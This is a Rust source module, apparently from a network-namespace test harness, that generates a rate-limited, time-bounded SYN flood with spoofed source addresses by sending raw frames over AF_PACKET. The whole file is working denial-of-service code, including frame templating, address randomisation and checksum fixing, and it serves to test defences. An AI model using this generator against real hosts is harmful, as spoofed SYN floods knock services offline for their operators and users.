//! A spoofed SYN flood: first SYNs from random sources of some /24s, random ports and
//! sequence numbers, never retransmitted. Sent as raw frames on a client namespace's
//! veth (AF_PACKET), at a fixed rate, for a bounded time.

use std::{
    net::Ipv4Addr,
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    thread::JoinHandle,
    time::{Duration, Instant},
};

use anyhow::{Result, anyhow, bail};

use crate::netns::{Netns, enter};

/// A flood running on its own thread.
pub struct Flood {
    stop: Arc<AtomicBool>,
    sent: Arc<AtomicU64>,
    thread: Option<JoinHandle<Result<()>>>,
}

/// Where and how hard to flood.
#[derive(Clone, Debug)]
pub struct FloodSpec {
    /// The /24s the spoofed sources are drawn from (first three bytes), in turn.
    pub nets: Vec<[u8; 3]>,
    pub dst: Ipv4Addr,
    pub dport: u16,
    pub dst_mac: [u8; 6],
    pub per_second: u32,
    /// Hard bound on how long it runs.
    pub max: Duration,
}

impl Flood {
    /// Start flooding from `dev` inside `ns`.
    pub fn start(ns: &Netns, dev: &str, spec: FloodSpec) -> Result<Flood> {
        let path = ns.path();
        let dev = dev.to_string();
        let stop = Arc::new(AtomicBool::new(false));
        let sent = Arc::new(AtomicU64::new(0));
        let (s2, n2) = (stop.clone(), sent.clone());
        let (tx, rx) = std::sync::mpsc::channel();
        let thread = std::thread::spawn(move || -> Result<()> {
            let sock = match enter(&path).and_then(|()| Raw::new(&dev, spec.dst_mac)) {
                Ok(v) => {
                    let _ = tx.send(Ok(()));
                    v
                }
                Err(e) => {
                    let _ = tx.send(Err(format!("{e:#}")));
                    return Err(e);
                }
            };
            send_loop(&sock, &spec, &s2, &n2)
        });
        match rx.recv_timeout(Duration::from_secs(5)) {
            Ok(Ok(())) => {}
            Ok(Err(e)) => bail!("flood: {e}"),
            Err(_) => bail!("flood did not start"),
        }
        Ok(Flood {
            stop,
            sent,
            thread: Some(thread),
        })
    }

    pub fn sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }

    /// Stop; returns the number of SYNs sent.
    pub fn finish(mut self) -> Result<u64> {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            t.join().map_err(|_| anyhow!("flood thread panicked"))??;
        }
        Ok(self.sent())
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// A raw socket (AF_PACKET) on one interface of the calling thread's namespace, with
/// the link-layer address its frames go to.
pub struct Raw {
    fd: std::os::fd::OwnedFd,
    to: libc::sockaddr_ll,
}

impl Raw {
    /// On `dev` of the calling thread's namespace, to `dst_mac`.
    pub fn new(dev: &str, dst_mac: [u8; 6]) -> Result<Raw> {
        use std::os::fd::FromRawFd as _;
        let ifindex = crate::netns::ifindex(dev)?;
        // SAFETY: plain syscalls; the fd is owned right away.
        let fd = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW, 0) };
        if fd < 0 {
            return Err(std::io::Error::last_os_error().into());
        }
        // SAFETY: `fd` is a fresh descriptor nobody else owns.
        let fd = unsafe { std::os::fd::OwnedFd::from_raw_fd(fd) };
        // SAFETY: zeroed sockaddr_ll is valid; the fields that matter are set below.
        let mut to: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
        to.sll_family = libc::AF_PACKET as u16;
        to.sll_ifindex = i32::try_from(ifindex)?;
        to.sll_halen = 6;
        to.sll_addr[..6].copy_from_slice(&dst_mac);
        Ok(Raw { fd, to })
    }

    /// Send one frame.
    pub fn send(&self, frame: &[u8]) -> std::io::Result<()> {
        use std::os::fd::AsRawFd as _;
        // SAFETY: `frame` and `self.to` are valid for the lengths given.
        let rc = unsafe {
            libc::sendto(
                self.fd.as_raw_fd(),
                frame.as_ptr().cast(),
                frame.len(),
                0,
                (&raw const self.to).cast(),
                size_of::<libc::sockaddr_ll>() as libc::socklen_t,
            )
        };
        if rc < 0 {
            return Err(std::io::Error::last_os_error());
        }
        Ok(())
    }
}

fn send_loop(raw: &Raw, spec: &FloodSpec, stop: &AtomicBool, sent: &AtomicU64) -> Result<()> {
    let mut rng = 0x9e37_79b9_7f4a_7c15u64 ^ u64::from(std::process::id());
    let mut frame = template(spec);
    let start = Instant::now();
    let step = Duration::from_secs(1) / spec.per_second.max(1);
    let mut n: u64 = 0;
    while !stop.load(Ordering::Relaxed) && start.elapsed() < spec.max {
        let due = start + step * u32::try_from(n).unwrap_or(u32::MAX);
        let now = Instant::now();
        if due > now {
            std::thread::sleep(due - now);
        }
        rng ^= rng << 13;
        rng ^= rng >> 7;
        rng ^= rng << 17;
        if let Some(net) = spec.nets.get(n as usize % spec.nets.len().max(1)) {
            frame[IP + 12..IP + 15].copy_from_slice(net);
        }
        randomize(&mut frame, rng);
        match raw.send(&frame) {
            Ok(()) => {
                sent.fetch_add(1, Ordering::Relaxed);
            }
            Err(e) if e.raw_os_error() == Some(libc::ENOBUFS) => {}
            Err(e) => return Err(e.into()),
        }
        n += 1;
    }
    Ok(())
}

const IP: usize = 14;
const TCP: usize = IP + 20;

/// Ethernet + IPv4 + TCP SYN with the fixed fields filled in.
fn template(spec: &FloodSpec) -> Vec<u8> {
    let mut f = vec![0u8; TCP + 20];
    f[..6].copy_from_slice(&spec.dst_mac);
    f[6..12].copy_from_slice(&[0x02, 0x5f, 0, 0, 0, 1]);
    f[12..14].copy_from_slice(&0x0800u16.to_be_bytes());
    f[IP] = 0x45;
    f[IP + 2..IP + 4].copy_from_slice(&40u16.to_be_bytes());
    f[IP + 8] = 64;
    f[IP + 9] = 6;
    f[IP + 16..IP + 20].copy_from_slice(&spec.dst.octets());
    f[TCP + 2..TCP + 4].copy_from_slice(&spec.dport.to_be_bytes());
    f[TCP + 12] = 5 << 4;
    f[TCP + 13] = 0x02;
    f[TCP + 14..TCP + 16].copy_from_slice(&64_240u16.to_be_bytes());
    f
}

/// New source host, source port and ISN from `r`; fix both checksums.
fn randomize(f: &mut [u8], r: u64) {
    f[IP + 15] = (r & 0xff) as u8;
    f[IP + 4..IP + 6].copy_from_slice(&((r >> 8) as u16).to_be_bytes());
    let sport = 1024 + ((r >> 24) as u16 % 60_000);
    f[TCP..TCP + 2].copy_from_slice(&sport.to_be_bytes());
    f[TCP + 4..TCP + 8].copy_from_slice(&((r >> 32) as u32).to_be_bytes());
    f[IP + 10..IP + 12].fill(0);
    let ip_sum = checksum(0, &f[IP..TCP]);
    f[IP + 10..IP + 12].copy_from_slice(&ip_sum.to_be_bytes());
    f[TCP + 16..TCP + 18].fill(0);
    let mut pseudo = [0u8; 12];
    pseudo[..8].copy_from_slice(&f[IP + 12..IP + 20]);
    pseudo[9] = 6;
    pseudo[10..12].copy_from_slice(&20u16.to_be_bytes());
    let tcp_sum = checksum(sum(0, &pseudo), &f[TCP..]);
    f[TCP + 16..TCP + 18].copy_from_slice(&tcp_sum.to_be_bytes());
}

fn sum(mut acc: u32, data: &[u8]) -> u32 {
    for pair in data.chunks(2) {
        let hi = u32::from(pair[0]) << 8;
        let lo = pair.get(1).map_or(0, |b| u32::from(*b));
        acc += hi | lo;
    }
    acc
}

fn checksum(acc: u32, data: &[u8]) -> u16 {
    let mut s = sum(acc, data);
    while s > 0xffff {
        s = (s & 0xffff) + (s >> 16);
    }
    !(s as u16)
}
